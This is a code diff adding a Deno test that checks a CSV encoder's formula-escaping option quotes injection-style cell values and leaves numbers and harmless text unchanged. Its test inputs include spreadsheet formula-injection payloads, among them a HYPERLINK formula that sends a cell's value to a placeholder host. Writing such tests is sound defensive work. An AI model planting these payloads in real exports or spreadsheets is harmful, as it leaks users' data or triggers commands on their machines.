@@ -212,3 +212,40 @@ Deno.test("every type has as many fields as rows", async () => {
     }
   });
 });
+
+Deno.test("escape_formulas: no text begins as a formula does, and a number keeps its sign", async () => {
+  const columns = [
+    column("=t", { kind: "text" }),
+    column("n", { kind: "int", bits: 32, signed: true }),
+  ];
+  const texts = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1dcmd",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20x",
+    "a=1",
+    "'=1",
+    " =1",
+    "",
+    '=HYPERLINK("http://h/?"&A1,"x")',
+    "\uff21",
+  ];
+  const batch = batchOf(columns, [...texts.map((text) => [text, -5]), [null, -5]]);
+  const file = { csv: { escapeFormulas: true } };
+  const shown = texts.map((text, i) => i < 11 || text.startsWith("=HYPER") ? `'${text}` : text);
+  await withFile("csv", columns, [batch], file, async (path) => {
+    const { columns: header, rows } = await readCsv(path);
+    assert.deepEqual(header, ["'=t", "n"]);
+    assert.deepEqual(rows.map(([text]) => text), [...shown, null]);
+    assert.deepEqual(rows.map(([, n]) => n), rows.map(() => "-5"));
+  });
+  const plain = await encode("csv", columns, [batchOf(columns, [["=1", 1]])]);
+  assert.equal(new TextDecoder().decode(plain), "=t,n\n=1,1\n");
+});
